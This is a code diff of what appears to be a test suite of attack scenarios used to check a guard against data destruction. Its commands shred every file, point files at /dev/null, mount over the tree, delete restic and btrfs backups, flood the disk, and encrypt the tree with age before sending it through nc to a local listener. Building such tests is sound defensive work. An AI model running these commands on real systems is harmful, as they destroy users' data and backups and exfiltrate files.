@@ -19,11 +19,13 @@ mount --bind . "$top/data"; cd "$top/data"
 exec chroot "$top" sh -c "cd /data && find . -type f ! -name .\\* -print0 | xargs -0 shred -n1"' '''
 
 # The peer listens in the same network namespace, which nobody else is in.
-SENT = '''unshare --net sh -c 'ip link set lo up; nc -l -p 4000 > /dev/null & sleep 0.5; {} | nc -N 127.0.0.1 4000; wait' '''
+SENT = '''unshare --net bash -c '
+ip link set lo up; nc -l -p 4000 > /dev/null & sleep 0.5; {} | nc -N 127.0.0.1 4000; wait' '''
 KEYS = 'age-keygen -o "$SCRATCH/key"; age-keygen -y "$SCRATCH/key" > "$SCRATCH/public"'
+AGE = 'age -R "$SCRATCH/public"'
 
-BACKUPS = '''export RESTIC_PASSWORD=x
-restic -q init -r backup; for n in 1 2 3; do head -c 3000000 /dev/urandom > "$SCRATCH/data"; restic -q backup -r backup "$SCRATCH/data"; done'''
+BACKUPS = '''export RESTIC_PASSWORD=x; restic -q init -r backup
+for n in 1 2 3; do head -c 3000000 /dev/urandom > "$SCRATCH/data"; restic -q backup -r backup "$SCRATCH/data"; done'''
 
 ELSEWHERE = {
     "S12-link-to-null": Attack(f'{FILES} -print0 | xargs -0 -n1 ln -sf /dev/null'),
@@ -40,24 +42,27 @@ ELSEWHERE = {
     "S12-by-handle": Attack(f"{FILES} -print0 | python3 '{BY_HANDLE}' \"$BESIDE\"", whole=True),
     "S15-top-folder": Attack("mv ../office ../elsewhere", outcome=Outcome.TOLD),
     "S15-top-folder-out": Attack('mv ../office "$BESIDE/office"', outcome=Outcome.TOLD),
-    "S15-mount-over": Attack('mount -t tmpfs nothing "$TREE"', afterwards='umount -l "$TREE"', outcome=Outcome.UNHARMED, seconds=20),
-    "S15-mount-over-and-shred": Attack(f'{SHRED} & mount -t tmpfs nothing "$TREE"; wait', afterwards='umount -l "$TREE"'),
+    "S15-mount-over": Attack('mount -t tmpfs nothing "$TREE"', afterwards='umount -l "$TREE"',
+                             outcome=Outcome.UNHARMED, seconds=20),
+    "S15-mount-over-and-shred": Attack(f'{SHRED} & mount -t tmpfs nothing "$TREE"; wait',
+                                       afterwards='umount -l "$TREE"'),
     "S19-service-account": Attack(f"setpriv --reuid=33 --regid=33 --clear-groups --inh-caps=-all sh -c '{SHRED}'",
                                   before_guard="chown -R 33:33 ."),
     "S19-container": Attack(CONTAINER),
     "S19-timer": Attack(f"setsid -f sh -c 'sleep 2; {SHRED}'; sleep 6"),
     "S19-backup-agent": Attack("rsync -a . \"$SCRATCH/copy1\"; rsync -a . \"$SCRATCH/copy2\"; "
                                f"{SHRED}", ("rsync",)),
-    "S21-restic": Attack('restic -q forget -r backup --prune $(restic -q snapshots -r backup --json | '
-                         'grep -o \'"short_id":"[0-9a-f]*"\' | cut -d\\" -f4)' f'; {SHRED}', ("restic",),
+    "S21-restic": Attack('export RESTIC_PASSWORD=x; restic -q forget -r backup --prune $(restic -q snapshots -r backup '
+                         '--json | grep -o \'"short_id":"[0-9a-f]*"\' | cut -d\\" -f4)' f'; {SHRED}', ("restic",),
                          before_guard=BACKUPS),
     "S21-subvolume": Attack(f'btrfs -q subvolume delete snapshots; {SHRED}', ("btrfs",), fs=("btrfs",),
                             before_guard='btrfs -q subvolume create snapshots; for n in $(seq 40); do '
                                          'head -c 9000 /usr/bin/perl > "snapshots/$n"; done'),
-    "S21-flood": Attack(f'for n in $(seq 8); do dd if=/dev/urandom of="junk$((n % 2))" bs=1M count=150 status=none; done; {SHRED}'),
-    "S22-tar-age-nc": Attack(SENT.format('tar c . | age -R "$SCRATCH/public"'), ("age", "nc"), KEYS, outcome=Outcome.UNHARMED),
-    "S22-throttled": Attack(SENT.format('find . -type f -print0 | while IFS= read -r -d "" f; do age -R "$SCRATCH/public" "$f"; '
-                                        'sleep 0.01; done').replace("sh -c", "bash -c"), ("age", "nc"), KEYS, outcome=Outcome.UNHARMED),
+    "S21-flood": Attack('for n in $(seq 8); do dd if=/dev/urandom of="junk$((n % 2))" bs=1M count=150 status=none; '
+                        f'done; {SHRED}'),
+    "S22-tar-age-nc": Attack(SENT.format(f'tar c . | {AGE}'), ("age", "nc"), KEYS, outcome=Outcome.UNHARMED),
+    "S22-throttled": Attack(SENT.format(f'{EACH} {AGE} "$f"; sleep 0.01; done'), ("age", "nc"), KEYS,
+                            outcome=Outcome.UNHARMED),
     "S22-staged": Attack('7z a -psecret -mhe=on -bd -bso0 -bsp0 "$BESIDE/all.7z" . && '
                          + SENT.format('cat "$BESIDE/all.7z"'), ("7z", "nc"), outcome=Outcome.UNHARMED),
 }
